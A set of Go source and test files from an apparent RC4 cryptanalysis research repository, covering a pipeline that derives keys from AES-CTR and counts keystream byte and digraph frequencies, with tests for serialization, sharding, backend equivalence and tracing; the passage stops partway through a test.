	got, err := Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	gs, ok := got.(*SingleByteCounts)
	if !ok {
		t.Fatalf("loaded type %T", got)
	}
	if gs.Keys != 2 || gs.Count(1, 1) != 1 || gs.Count(3, 6) != 1 {
		t.Error("loaded counts differ")
	}

	d := NewDigraphCounts(2)
	d.Observe([]byte{9, 9, 9})
	buf.Reset()
	if err := Save(&buf, d); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(&buf); err != nil {
		t.Fatal(err)
	}

	buf.Reset()
	if err := Save(&buf, &Multi{}); err == nil {
		t.Error("Multi save accepted")
	}
	if _, err := Load(bytes.NewReader([]byte("garbage"))); err == nil {
		t.Error("garbage load accepted")
	}
}

func TestCollectLongTermMechanics(t *testing.T) {
	lt, err := CollectLongTerm(context.Background(), [16]byte{7}, 4, 16, 2)
	if err != nil {
		t.Fatal(err)
	}
	wantPairs := uint64(4 * 16 * 256)
	if lt.Pairs != wantPairs {
		t.Fatalf("Pairs = %d, want %d", lt.Pairs, wantPairs)
	}
	// Counts must conserve the total.
	var total uint64
	for _, c := range lt.Counts {
		total += c
	}
	if total != wantPairs {
		t.Fatalf("count sum %d, want %d", total, wantPairs)
	}
	// Per-class totals must be exactly Pairs/256.
	for i := 0; i < 256; i++ {
		var classTotal uint64
		for c := 0; c < 65536; c++ {
			classTotal += lt.Counts[i*65536+c]
		}
		if classTotal != wantPairs/256 {
			t.Fatalf("class %d total %d, want %d", i, classTotal, wantPairs/256)
		}
	}
	if p := lt.Probability(0, 0, 0); p < 0 || p > 1 {
		t.Fatalf("probability out of range: %v", p)
	}
	_ = lt.Count(3, 1, 2)
}

func TestTargetedLongTermMatchesFullTable(t *testing.T) {
	// The targeted counter must agree exactly with the full table on the
	// same deterministic keystream set.
	master := [16]byte{9}
	cells := []LongTermCell{
		{I: -1, X: 0, Y: 0},
		{I: 5, X: 255, Y: 255},
		{I: -1, X: 0, Y: 1, YPlusI: true},   // (0, i+1)
		{I: -1, X: 1, Y: 255, XPlusI: true}, // (i+1, 255)
	}
	tt, err := CollectLongTermTargeted(context.Background(), master, 3, 8, 1, cells)
	if err != nil {
		t.Fatal(err)
	}
	lt := collectLongTermLanes(master, 3, 8)
	if tt.Pairs != lt.Pairs {
		t.Fatalf("pair totals differ: %d vs %d", tt.Pairs, lt.Pairs)
	}
	var want [4]uint64
	for i := 0; i < 256; i++ {
		want[0] += lt.Count(i, 0, 0)
		want[2] += lt.Count(i, 0, byte(i+1))
		want[3] += lt.Count(i, byte(i+1), 255)
	}
	want[1] = lt.Count(5, 255, 255)
	for ci := range cells {
		if tt.Counts[ci] != want[ci] {
			t.Errorf("cell %d: targeted %d, full %d", ci, tt.Counts[ci], want[ci])
		}
	}
}

// collectLongTermLanes mirrors CollectLongTermTargeted's lane numbering
// (offset 2000) but fills the full table, so the two can be compared on
// identical keystreams.
func collectLongTermLanes(master [16]byte, keys, blocks int) *LongTermDigraphs {
	lt := &LongTermDigraphs{}
	src := NewKeySource(master, 2000)
	key := make([]byte, 16)
	buf := make([]byte, 257)
	for k := 0; k < keys; k++ {
		src.NextKey(key)
		c := rc4mustNew(key)
		c.Skip(1023)
		c.Keystream(buf[:1])
		for b := 0; b < blocks; b++ {
			c.Keystream(buf[1:])
			for r := 0; r < 256; r++ {
				lt.Counts[r*65536+int(buf[r])*256+int(buf[r+1])]++
			}
			lt.Pairs += 256
			buf[0] = buf[256]
		}
	}
	return lt
}
