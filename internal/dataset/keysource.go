// Package dataset implements the keystream-statistics generation pipeline of
// §3.2: workers derive random 128-bit RC4 keys from AES in counter mode,
// generate keystreams, and fold them into mergeable counter structures. The
// paper ran this across ~80 machines for CPU-years; here the same design
// runs across goroutines with configurable key counts, so every experiment
// can be reproduced at laptop scale and scaled up by flag.
//
// The counters follow the paper's overflow design: workers accumulate into
// compact per-worker arrays and the driver merges them into shared uint64
// totals, which keeps the hot loop cache-friendly.
package dataset

import (
	"crypto/aes"
	"crypto/cipher"
	"encoding/binary"
)

// KeySource deterministically derives RC4 keys from a master AES-128 key in
// counter mode, mirroring the paper's worker start-up ("each worker
// generates a cryptographically random AES key. Random 128-bit RC4 keys are
// derived from this key using AES in counter mode"). A given (master, lane)
// pair always yields the same key sequence, which makes every dataset in
// this repository exactly reproducible.
type KeySource struct {
	stream cipher.Stream
	buf    []byte
}

// NewKeySource creates a key source for the given worker lane. Each lane
// gets a disjoint counter-mode keystream by seeding the IV with the lane
// number.
func NewKeySource(master [16]byte, lane uint64) *KeySource {
	block, err := aes.NewCipher(master[:])
	if err != nil {
		// aes.NewCipher only fails on bad key sizes; [16]byte cannot be one.
		panic("dataset: impossible AES key error: " + err.Error())
	}
	var iv [aes.BlockSize]byte
	binary.BigEndian.PutUint64(iv[:8], lane)
	return &KeySource{stream: cipher.NewCTR(block, iv[:])}
}

// NextKey fills key with the next derived RC4 key bytes.
func (ks *KeySource) NextKey(key []byte) {
	if cap(ks.buf) < len(key) {
		ks.buf = make([]byte, len(key))
	}
	b := ks.buf[:len(key)]
	for i := range b {
		b[i] = 0
	}
	ks.stream.XORKeyStream(key, b)
}
