package dataset

import (
	"testing"
	"time"
)

func TestLaneLedgerLeaseOrderAndComplete(t *testing.T) {
	l := NewLaneLedger(3)
	now := time.Unix(1000, 0)
	ttl := time.Minute

	// Lanes are granted lowest-first.
	for want := uint64(0); want < 3; want++ {
		lane, ok := l.Lease("w", now, ttl)
		if !ok || lane != want {
			t.Fatalf("lease %d: got (%d, %v)", want, lane, ok)
		}
	}
	if _, ok := l.Lease("w", now, ttl); ok {
		t.Fatal("lease granted with all lanes taken")
	}

	if err := l.Complete(1); err != nil {
		t.Fatal(err)
	}
	if err := l.Complete(1); err == nil {
		t.Fatal("double-complete accepted")
	}
	if err := l.Complete(99); err == nil {
		t.Fatal("out-of-range lane accepted")
	}
	if l.Done() {
		t.Fatal("ledger done with lanes outstanding")
	}
	if avail, leased, done := l.Counts(); avail != 0 || leased != 2 || done != 1 {
		t.Fatalf("counts = %d/%d/%d, want 0/2/1", avail, leased, done)
	}
}

func TestLaneLedgerExpiryReclaim(t *testing.T) {
	l := NewLaneLedger(2)
	now := time.Unix(1000, 0)
	ttl := time.Minute

	lane, _ := l.Lease("dead-worker", now, ttl)
	if lane != 0 {
		t.Fatalf("lane = %d", lane)
	}
	l.Lease("live-worker", now, ttl)

	// Before expiry nothing comes back.
	if got := l.Reclaim(now.Add(30 * time.Second)); len(got) != 0 {
		t.Fatalf("reclaimed %v before expiry", got)
	}
	// The dead worker completes nothing; after its TTL both leases expire
	// but only lane 0 is still leased once lane 1 completed.
	if err := l.Complete(1); err != nil {
		t.Fatal(err)
	}
	got := l.Reclaim(now.Add(2 * time.Minute))
	if len(got) != 1 || got[0] != 0 {
		t.Fatalf("reclaimed %v, want [0]", got)
	}
	// The reclaimed lane is re-leasable by another worker.
	lane, ok := l.Lease("rejoined", now.Add(2*time.Minute), ttl)
	if !ok || lane != 0 {
		t.Fatalf("re-lease got (%d, %v)", lane, ok)
	}
	if err := l.Complete(0); err != nil {
		t.Fatal(err)
	}
	if !l.Done() {
		t.Fatal("ledger not done with all lanes complete")
	}
}

func TestLaneLedgerRelease(t *testing.T) {
	l := NewLaneLedger(1)
	now := time.Unix(0, 0)
	l.Lease("a", now, time.Minute)

	// A non-owner's release is ignored; the owner's returns the lane.
	l.Release(0, "b")
	if l.State(0) != LaneLeased {
		t.Fatal("non-owner release took the lane")
	}
	l.Release(0, "a")
	if l.State(0) != LaneAvailable {
		t.Fatal("owner release did not return the lane")
	}
}
