package dataset

import (
	"context"
	"hash/fnv"
	"testing"

	"rc4break/internal/rc4"
)

// digestSink folds every window into an order-insensitive digest: the sum of
// per-window FNV hashes. Summation commutes, so two runs that deliver the
// same multiset of windows — however interleaved across keys or shards —
// produce the same digest, while any single flipped keystream byte changes
// it. That is exactly the Sink ordering contract the batched backend is
// allowed to relax, and no more.
type digestSink struct {
	sum     uint64
	windows uint64
}

func (d *digestSink) Window(win []byte) {
	h := fnv.New64a()
	h.Write(win)
	d.sum += h.Sum64()
	d.windows++
}

func (d *digestSink) Merge(other Sink) error {
	o, ok := other.(*digestSink)
	if !ok {
		return errIncompatibleSink
	}
	d.sum += o.sum
	d.windows += o.windows
	return nil
}

func runDigest(t *testing.T, backend rc4.Backend, st Stream, keys uint64, shards int) *digestSink {
	t.Helper()
	sink, err := Engine{Workers: 2, Backend: backend}.Run(context.Background(), st,
		SplitKeys(keys, shards, 7), func(int) Sink { return &digestSink{} })
	if err != nil {
		t.Fatal(err)
	}
	return sink.(*digestSink)
}

// TestEngineBackendEquivalence pins the batched backend against the scalar
// one across batch-boundary shapes: shards bigger than one lane batch,
// shards with ragged tails, and shards smaller than a single batch (all of
// it padded). Covers skip, overlap carry, multi-block delivery, and a
// KeyDeriver, so every scalar-path feature crosses the batched path too.
func TestEngineBackendEquivalence(t *testing.T) {
	st := Stream{
		KeyLen:   16,
		Skip:     5,
		Overlap:  2,
		BlockLen: 9,
		Blocks:   4,
		KeyDeriver: func(keyIndex uint64, key []byte) {
			key[0] = byte(keyIndex) // fold the global index into the key
		},
	}
	for _, keys := range []uint64{1, 3, 32, 70, 131} {
		scalar := runDigest(t, rc4.BackendScalar, st, keys, 2)
		multi := runDigest(t, rc4.BackendMulti, st, keys, 2)
		if scalar.windows != multi.windows {
			t.Fatalf("keys=%d: window count %d (scalar) vs %d (multi)", keys, scalar.windows, multi.windows)
		}
		if want := keys * uint64(st.Blocks); scalar.windows != want {
			t.Fatalf("keys=%d: %d windows, want %d", keys, scalar.windows, want)
		}
		if scalar.sum != multi.sum {
			t.Fatalf("keys=%d: backend digests diverged", keys)
		}
	}
}

// TestEngineBackendEnv checks that Engine resolves RC4_BACKEND, and that an
// unknown value fails the run instead of silently picking a default.
func TestEngineBackendEnv(t *testing.T) {
	st := Stream{BlockLen: 4}
	t.Setenv(rc4.BackendEnv, "scalar")
	base := runDigest(t, rc4.BackendAuto, st, 40, 2)
	t.Setenv(rc4.BackendEnv, "soa")
	soa := runDigest(t, rc4.BackendAuto, st, 40, 2)
	if base.sum != soa.sum || base.windows != soa.windows {
		t.Fatal("env-forced backends disagree")
	}
	t.Setenv(rc4.BackendEnv, "quantum")
	if _, err := (Engine{}).Run(context.Background(), st, SplitKeys(4, 1, 0),
		func(int) Sink { return &digestSink{} }); err == nil {
		t.Fatal("invalid RC4_BACKEND did not fail the run")
	}
}
