package dataset

import (
	"bytes"
	"encoding/binary"
	"encoding/gob"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"rc4break/internal/snapshot"
)

func savedDataset(t *testing.T) (Observer, []byte) {
	t.Helper()
	obs, err := Run(Config{Keys: 64}, func() Observer { return NewSingleByteCounts(8) })
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Save(&buf, obs); err != nil {
		t.Fatal(err)
	}
	return obs, buf.Bytes()
}

func TestSaveWritesVersionedEnvelope(t *testing.T) {
	_, raw := savedDataset(t)
	if string(raw[:snapshot.MagicLen]) != snapshot.Magic {
		t.Fatal("saved dataset missing format magic")
	}
	got, err := Load(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	s, ok := got.(*SingleByteCounts)
	if !ok || s.Keys != 64 || s.Positions != 8 {
		t.Fatalf("round trip mismatch: %T keys=%d", got, KeysObserved(got))
	}
}

func TestLoadLegacyPreEnvelopeStream(t *testing.T) {
	// Files written before the version marker were bare gob streams; they
	// must keep loading.
	obs, err := Run(Config{Keys: 32}, func() Observer { return NewDigraphCounts(4) })
	if err != nil {
		t.Fatal(err)
	}
	var legacy bytes.Buffer
	enc := gob.NewEncoder(&legacy)
	if err := enc.Encode("digraph"); err != nil {
		t.Fatal(err)
	}
	if err := enc.Encode(obs); err != nil {
		t.Fatal(err)
	}
	got, err := Load(&legacy)
	if err != nil {
		t.Fatal(err)
	}
	if KeysObserved(got) != 32 {
		t.Fatalf("legacy load keys = %d", KeysObserved(got))
	}
}

func TestLoadRejectsFutureVersionClearly(t *testing.T) {
	_, raw := savedDataset(t)
	binary.BigEndian.PutUint32(raw[snapshot.MagicLen:], 99)
	_, err := Load(bytes.NewReader(raw))
	if err == nil || !strings.Contains(err.Error(), "version 99") {
		t.Fatalf("want clear version error, got %v", err)
	}
}

func TestLoadDetectsCorruptionAndTruncation(t *testing.T) {
	_, raw := savedDataset(t)
	flipped := append([]byte(nil), raw...)
	flipped[len(flipped)/2] ^= 0x80
	if _, err := Load(bytes.NewReader(flipped)); !errors.Is(err, snapshot.ErrChecksum) {
		t.Fatalf("flipped byte: want ErrChecksum, got %v", err)
	}
	if _, err := Load(bytes.NewReader(raw[:len(raw)/2])); !errors.Is(err, snapshot.ErrTruncated) {
		t.Fatalf("truncated: want ErrTruncated, got %v", err)
	}
}

func TestLoadRejectsForeignEnvelopeKind(t *testing.T) {
	var buf bytes.Buffer
	if err := snapshot.Write(&buf, "rc4break.tkip.model.v1", []byte("not a dataset")); err != nil {
		t.Fatal(err)
	}
	_, err := Load(&buf)
	if err == nil || !strings.Contains(err.Error(), "not an observer dataset") {
		t.Fatalf("want kind error, got %v", err)
	}
}

func TestSaveFileLoadFileRoundTripMatchesStream(t *testing.T) {
	obs, raw := savedDataset(t)
	path := filepath.Join(t.TempDir(), "ds.gob")
	if err := SaveFile(path, obs); err != nil {
		t.Fatal(err)
	}
	got, err := LoadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Save(&buf, got); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(raw, buf.Bytes()) {
		t.Fatal("file and stream serializations diverge")
	}
}

func TestLaneOffsetSelectsDisjointKeySequences(t *testing.T) {
	gen := func(laneOffset uint64) *SingleByteCounts {
		obs, err := Run(Config{Keys: 128, Workers: 1, LaneOffset: laneOffset},
			func() Observer { return NewSingleByteCounts(16) })
		if err != nil {
			t.Fatal(err)
		}
		return obs.(*SingleByteCounts)
	}
	base := gen(0)
	same := gen(0)
	shifted := gen(1 << 20)
	if !equalCounts(base.Counts, same.Counts) {
		t.Fatal("same lane offset not reproducible")
	}
	if equalCounts(base.Counts, shifted.Counts) {
		t.Fatal("shifted lane offset produced identical keys")
	}
	// Both draws carry the same shape and key count — only the keys differ.
	if base.Keys != shifted.Keys {
		t.Fatal("key counts differ")
	}
}

func equalCounts(a, b []uint64) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestSaveFileMetaRoundTripAndDeterminism(t *testing.T) {
	obs, _ := savedDataset(t)
	meta := map[string]uint64{"seed": 7, "lanebase": 65536, "checkpoint-every": 4096}
	dir := t.TempDir()
	p1, p2 := filepath.Join(dir, "a.gob"), filepath.Join(dir, "b.gob")
	if err := SaveFileMeta(p1, obs, meta); err != nil {
		t.Fatal(err)
	}
	if err := SaveFileMeta(p2, obs, meta); err != nil {
		t.Fatal(err)
	}
	b1, err := os.ReadFile(p1)
	if err != nil {
		t.Fatal(err)
	}
	b2, err := os.ReadFile(p2)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b1, b2) {
		t.Fatal("identical checkpoints serialize differently (map-order nondeterminism?)")
	}

	got, gotMeta, err := LoadFileMeta(p1)
	if err != nil {
		t.Fatal(err)
	}
	if KeysObserved(got) != KeysObserved(obs) {
		t.Fatal("observer altered by meta round trip")
	}
	if len(gotMeta) != 3 || gotMeta["seed"] != 7 || gotMeta["lanebase"] != 65536 || gotMeta["checkpoint-every"] != 4096 {
		t.Fatalf("meta round trip mismatch: %v", gotMeta)
	}

	// Files without meta load with nil meta, and plain Load still reads
	// meta-carrying files (the trailing record is simply not consumed).
	p3 := filepath.Join(dir, "plain.gob")
	if err := SaveFile(p3, obs); err != nil {
		t.Fatal(err)
	}
	_, noMeta, err := LoadFileMeta(p3)
	if err != nil {
		t.Fatal(err)
	}
	if noMeta != nil {
		t.Fatalf("plain file yielded meta %v", noMeta)
	}
	if _, err := LoadFile(p1); err != nil {
		t.Fatalf("plain load of meta-carrying file: %v", err)
	}
}

func TestLoadCorruptPayloadLengthFailsCleanly(t *testing.T) {
	// A flipped high bit in the payload-length field must end in a clean
	// truncation error, not an attempted huge allocation.
	_, raw := savedDataset(t)
	kindLen := len(ObserverSnapshotKind)
	lenOff := snapshot.MagicLen + 4 + 4 + kindLen // big-endian uint64 length field
	// +2^39: stays under the sanity cap, so the reader must hit EOF and
	// report truncation with memory bounded by the real stream size.
	huge := append([]byte(nil), raw...)
	huge[lenOff+3] ^= 0x80
	if _, err := Load(bytes.NewReader(huge)); !errors.Is(err, snapshot.ErrTruncated) {
		t.Fatalf("corrupt payload length: want ErrTruncated, got %v", err)
	}
	// +2^55: over the cap, rejected outright with a clear message.
	insane := append([]byte(nil), raw...)
	insane[lenOff+1] ^= 0x80
	if _, err := Load(bytes.NewReader(insane)); err == nil || !strings.Contains(err.Error(), "payload length") {
		t.Fatalf("insane payload length: want length error, got %v", err)
	}
}
