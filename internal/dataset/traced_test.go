package dataset

import (
	"context"
	"testing"

	"rc4break/internal/obs"
)

// TestEngineTracingBitwiseIdentical pins the observability invariant: a run
// with a live journal in the context produces a sink bitwise identical to
// the untraced run, and the journal holds the run/shard span structure.
func TestEngineTracingBitwiseIdentical(t *testing.T) {
	st := Stream{Skip: 3, Overlap: 1, BlockLen: 32, Blocks: 4}
	shards := SplitKeys(200, 4, 7)
	run := func(ctx context.Context) *SingleByteCounts {
		sink, err := Engine{Workers: 2}.Run(ctx, st, shards,
			func(int) Sink { return observerSink{NewSingleByteCounts(33)} })
		if err != nil {
			t.Fatal(err)
		}
		return sink.(observerSink).obs.(*SingleByteCounts)
	}

	plain := run(context.Background())
	j := obs.NewJournal("test", 256)
	traced := run(obs.NewContext(context.Background(), j))

	if plain.Keys != traced.Keys {
		t.Fatalf("keys diverge: %d vs %d", plain.Keys, traced.Keys)
	}
	for i := range plain.Counts {
		if plain.Counts[i] != traced.Counts[i] {
			t.Fatalf("tracing changed output at count %d", i)
		}
	}

	recs := j.Snapshot()
	var runs, shardSpans int
	var runCtx obs.SpanContext
	for _, r := range recs {
		switch r.Name {
		case "engine.run":
			runs++
			runCtx = obs.SpanContext{Trace: obs.TraceID(r.Trace), Span: obs.SpanID(r.Span)}
		case "engine.shard":
			shardSpans++
		}
	}
	if runs != 1 || shardSpans != len(shards) {
		t.Fatalf("got %d run + %d shard spans, want 1 + %d", runs, shardSpans, len(shards))
	}
	for _, r := range recs {
		if r.Name == "engine.shard" {
			if r.Parent != uint64(runCtx.Span) || r.Trace != uint64(runCtx.Trace) {
				t.Fatalf("shard span not parented under run span: %+v", r)
			}
		}
	}
}

// BenchmarkEngineTracedVsUntraced pins the hot-path rule from the obs
// package: tracing is per-run/per-shard only, so an enabled journal must
// cost the same as the disabled nil-check path to within noise. CI renames
// the two sub-benchmarks to a common name and gates the pair with
// scripts/benchdiff at a 2% threshold.
func BenchmarkEngineTracedVsUntraced(b *testing.B) {
	st := Stream{Skip: 256, BlockLen: 256, Blocks: 1}
	shards := SplitKeys(2048, 4, 0)
	bench := func(b *testing.B, ctx context.Context) {
		b.SetBytes(int64(2048 * 256))
		for i := 0; i < b.N; i++ {
			_, err := Engine{Workers: 2}.Run(ctx, st, shards,
				func(int) Sink { return observerSink{NewSingleByteCounts(256)} })
			if err != nil {
				b.Fatal(err)
			}
		}
	}
	b.Run("untraced", func(b *testing.B) {
		bench(b, context.Background())
	})
	b.Run("traced", func(b *testing.B) {
		j := obs.NewJournal("bench", 4096)
		bench(b, obs.NewContext(context.Background(), j))
	})
}
