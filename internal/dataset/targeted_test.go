package dataset

import (
	"math/rand"
	"testing"
)

// referenceTargetedWindow is the pre-index TargetedLongTerm.Window walk
// (every position compared against every cell), kept as the pinning
// reference for the bitmap-indexed fast path.
func referenceTargetedWindow(cells []LongTermCell, counts []uint64, win []byte) {
	for r := 0; r < 256; r++ {
		x, y := win[r], win[r+1]
		for ci := range cells {
			cell := &cells[ci]
			if cell.I >= 0 && cell.I != r {
				continue
			}
			cx, cy := cell.X, cell.Y
			if cell.XPlusI {
				cx += byte(r)
			}
			if cell.YPlusI {
				cy += byte(r)
			}
			if x == cx && y == cy {
				counts[ci]++
			}
		}
	}
}

// table1Cells mirrors the experiments.Table1 cell set — the production
// consumer of the targeted counter.
func table1Cells() []LongTermCell {
	return []LongTermCell{
		{I: 1, X: 0, Y: 0},
		{I: -1, X: 0, Y: 0},
		{I: -1, X: 0, Y: 1},
		{I: -1, X: 0, Y: 1, YPlusI: true},
		{I: -1, X: 1, Y: 255, XPlusI: true},
		{I: 2, X: 129, Y: 129},
		{I: -1, X: 255, Y: 1, YPlusI: true},
		{I: -1, X: 255, Y: 2, YPlusI: true},
		{I: 254, X: 255, Y: 0},
		{I: 255, X: 255, Y: 1},
		{I: -1, X: 255, Y: 255},
	}
}

// TestTargetedWindowMatchesReference pins the indexed fast path against the
// exhaustive per-cell walk on random windows and on windows engineered to
// hit the biased cells, for the Table 1 cell set and for adversarial cell
// sets (duplicates, wraparound XPlusI/YPlusI, fixed-I).
func TestTargetedWindowMatchesReference(t *testing.T) {
	rng := rand.New(rand.NewSource(1234))
	cellSets := [][]LongTermCell{
		table1Cells(),
		{},                   // empty cell set
		{{I: 0, X: 0, Y: 0}}, // single fixed-I cell at the carry slot
		{{I: -1, X: 5, Y: 200, XPlusI: true, YPlusI: true}}, // both wrap
		{{I: -1, X: 7, Y: 7}, {I: -1, X: 7, Y: 7}},          // duplicate cells
		{{I: 3, X: 9, Y: 9}, {I: -1, X: 12, Y: 1, XPlusI: true}},
	}
	for si, cells := range cellSets {
		tt := &TargetedLongTerm{Cells: append([]LongTermCell(nil), cells...), Counts: make([]uint64, len(cells))}
		ref := make([]uint64, len(cells))
		win := make([]byte, 257)
		for trial := 0; trial < 200; trial++ {
			switch trial % 3 {
			case 0: // uniform random
				rng.Read(win)
			case 1: // heavy in the cells' byte values
				for i := range win {
					win[i] = []byte{0, 1, 255, 129, 2, 64}[rng.Intn(6)]
				}
			default: // plant exact cell hits at random positions
				rng.Read(win)
				for k := 0; k < 8 && len(cells) > 0; k++ {
					c := cells[rng.Intn(len(cells))]
					r := rng.Intn(256)
					if c.I >= 0 {
						r = c.I
					}
					cx, cy := c.X, c.Y
					if c.XPlusI {
						cx += byte(r)
					}
					if c.YPlusI {
						cy += byte(r)
					}
					win[r], win[r+1] = cx, cy
				}
			}
			tt.Window(win)
			referenceTargetedWindow(cells, ref, win)
		}
		for ci := range cells {
			if tt.Counts[ci] != ref[ci] {
				t.Errorf("cell set %d cell %d: fast %d, reference %d", si, ci, tt.Counts[ci], ref[ci])
			}
		}
		if tt.Pairs != 200*256 {
			t.Errorf("cell set %d: pairs = %d", si, tt.Pairs)
		}
	}
}
