package dataset

import (
	"context"
	"sync"
	"testing"

	"rc4break/internal/rc4"
)

// --- pre-Engine reference implementations -------------------------------
//
// These replicate the hand-rolled fan-out loops the Engine replaced,
// sequentially, shard by shard: same lane numbering, same per/extra key
// split, same skip and window mechanics. The equivalence tests below pin the
// refactor to them bitwise.

// refRun is the pre-Engine dataset.Run worker loop.
func refRun(cfg Config, factory func() Observer) Observer {
	cfg = cfg.withDefaults()
	var merged Observer
	for _, sh := range SplitKeys(cfg.Keys, cfg.Workers, runLaneOffset) {
		obs := factory()
		src := NewKeySource(cfg.Master, sh.Lane)
		key := make([]byte, cfg.KeyLen)
		ks := make([]byte, obs.KeystreamLen())
		for i := uint64(0); i < sh.Keys; i++ {
			src.NextKey(key)
			if cfg.KeyDeriver != nil {
				cfg.KeyDeriver(sh.FirstKey+i, key)
			}
			c := rc4.MustNew(key)
			if cfg.Skip > 0 {
				c.Skip(cfg.Skip)
			}
			c.Keystream(ks)
			obs.Observe(ks)
		}
		if merged == nil {
			merged = obs
		} else if err := merged.Merge(obs); err != nil {
			panic(err)
		}
	}
	return merged
}

// refCollectLongTerm is the pre-Engine CollectLongTerm worker loop.
func refCollectLongTerm(master [16]byte, keys, blocks, workers int) *LongTermDigraphs {
	merged := &LongTermDigraphs{}
	for _, sh := range SplitKeys(uint64(keys), workers, longTermLaneOffset) {
		src := NewKeySource(master, sh.Lane)
		key := make([]byte, 16)
		buf := make([]byte, 257)
		for k := uint64(0); k < sh.Keys; k++ {
			src.NextKey(key)
			c := rc4.MustNew(key)
			c.Skip(1023)
			c.Keystream(buf[:1])
			for b := 0; b < blocks; b++ {
				c.Keystream(buf[1:])
				for r := 0; r < 256; r++ {
					merged.Counts[r*65536+int(buf[r])*256+int(buf[r+1])]++
				}
				merged.Pairs += 256
				buf[0] = buf[256]
			}
		}
	}
	return merged
}

// refCollectLongTermTargeted is the pre-Engine CollectLongTermTargeted loop.
func refCollectLongTermTargeted(master [16]byte, keys, blocks, workers int, cells []LongTermCell) *TargetedLongTerm {
	merged := &TargetedLongTerm{Cells: cells, Counts: make([]uint64, len(cells))}
	for _, sh := range SplitKeys(uint64(keys), workers, targetedLaneOffset) {
		src := NewKeySource(master, sh.Lane)
		key := make([]byte, 16)
		buf := make([]byte, 257)
		for k := uint64(0); k < sh.Keys; k++ {
			src.NextKey(key)
			c := rc4.MustNew(key)
			c.Skip(1023)
			c.Keystream(buf[:1])
			for b := 0; b < blocks; b++ {
				c.Keystream(buf[1:])
				for r := 0; r < 256; r++ {
					x, y := buf[r], buf[r+1]
					for ci := range cells {
						cell := &cells[ci]
						if cell.I >= 0 && cell.I != r {
							continue
						}
						cx, cy := cell.X, cell.Y
						if cell.XPlusI {
							cx += byte(r)
						}
						if cell.YPlusI {
							cy += byte(r)
						}
						if x == cx && y == cy {
							merged.Counts[ci]++
						}
					}
				}
				merged.Pairs += 256
				buf[0] = buf[256]
			}
		}
	}
	merged.PerI = merged.Pairs / 256
	return merged
}

// --- equivalence tests ---------------------------------------------------

func TestRunMatchesPreEngineLoop(t *testing.T) {
	master := [16]byte{0x11, 0x22}
	for _, workers := range []int{1, 3, 4} {
		cfg := Config{Keys: 500, Workers: workers, Master: master, Skip: 2}
		got, err := Run(cfg, func() Observer { return NewSingleByteCounts(16) })
		if err != nil {
			t.Fatal(err)
		}
		want := refRun(cfg, func() Observer { return NewSingleByteCounts(16) })
		g, w := got.(*SingleByteCounts), want.(*SingleByteCounts)
		if g.Keys != w.Keys {
			t.Fatalf("workers=%d: keys %d vs %d", workers, g.Keys, w.Keys)
		}
		for i := range g.Counts {
			if g.Counts[i] != w.Counts[i] {
				t.Fatalf("workers=%d: counts diverge at %d", workers, i)
			}
		}
	}
}

func TestRunKeyDeriverMatchesPreEngineLoop(t *testing.T) {
	// The deriver sees global key indices; mixing the index into the key
	// makes any indexing drift change the counts.
	deriver := func(keyIndex uint64, key []byte) {
		key[0] = byte(keyIndex)
		key[1] = byte(keyIndex >> 8)
	}
	cfg := Config{Keys: 300, Workers: 4, KeyDeriver: deriver}
	got, err := Run(cfg, func() Observer { return NewSingleByteCounts(4) })
	if err != nil {
		t.Fatal(err)
	}
	want := refRun(cfg, func() Observer { return NewSingleByteCounts(4) })
	g, w := got.(*SingleByteCounts), want.(*SingleByteCounts)
	for i := range g.Counts {
		if g.Counts[i] != w.Counts[i] {
			t.Fatalf("counts diverge at %d", i)
		}
	}
}

func TestCollectLongTermMatchesPreEngineLoop(t *testing.T) {
	master := [16]byte{0xab}
	for _, workers := range []int{1, 3} {
		got, err := CollectLongTerm(context.Background(), master, 5, 8, workers)
		if err != nil {
			t.Fatal(err)
		}
		want := refCollectLongTerm(master, 5, 8, workers)
		if got.Pairs != want.Pairs {
			t.Fatalf("workers=%d: pairs %d vs %d", workers, got.Pairs, want.Pairs)
		}
		for i := range got.Counts {
			if got.Counts[i] != want.Counts[i] {
				t.Fatalf("workers=%d: counts diverge at %d", workers, i)
			}
		}
	}
}

func TestCollectLongTermTargetedMatchesPreEngineLoop(t *testing.T) {
	master := [16]byte{0xcd}
	cells := []LongTermCell{
		{I: -1, X: 0, Y: 0},
		{I: 3, X: 255, Y: 255},
		{I: -1, X: 0, Y: 1, YPlusI: true},
	}
	for _, workers := range []int{1, 4} {
		got, err := CollectLongTermTargeted(context.Background(), master, 6, 8, workers, cells)
		if err != nil {
			t.Fatal(err)
		}
		want := refCollectLongTermTargeted(master, 6, 8, workers, cells)
		if got.Pairs != want.Pairs || got.PerI != want.PerI {
			t.Fatalf("workers=%d: pairs %d/%d vs %d/%d", workers, got.Pairs, got.PerI, want.Pairs, want.PerI)
		}
		for i := range got.Counts {
			if got.Counts[i] != want.Counts[i] {
				t.Fatalf("workers=%d: cell %d: %d vs %d", workers, i, got.Counts[i], want.Counts[i])
			}
		}
	}
}

// TestCollectLongTermZeroKeys is the regression test for the pre-Engine
// panic: workers were clamped to the key count, so zero keys indexed
// results[0] out of range.
func TestCollectLongTermZeroKeys(t *testing.T) {
	lt, err := CollectLongTerm(context.Background(), [16]byte{1}, 0, 16, 4)
	if err != nil {
		t.Fatal(err)
	}
	if lt == nil || lt.Pairs != 0 {
		t.Fatalf("want empty result, got %+v", lt)
	}
	tt, err := CollectLongTermTargeted(context.Background(), [16]byte{1}, 0, 16, 4, []LongTermCell{{I: -1}})
	if err != nil {
		t.Fatal(err)
	}
	if tt == nil || tt.Pairs != 0 || len(tt.Counts) != 1 {
		t.Fatalf("want empty result, got %+v", tt)
	}
	// Zero blocks must also yield an empty result, matching the pre-Engine
	// loops (whose block loop simply never ran).
	lt, err = CollectLongTerm(context.Background(), [16]byte{1}, 4, 0, 2)
	if err != nil || lt.Pairs != 0 {
		t.Fatalf("zero blocks: pairs %d err %v", lt.Pairs, err)
	}
}

// --- engine behavior tests ----------------------------------------------

func TestSplitKeys(t *testing.T) {
	shards := SplitKeys(10, 4, 100)
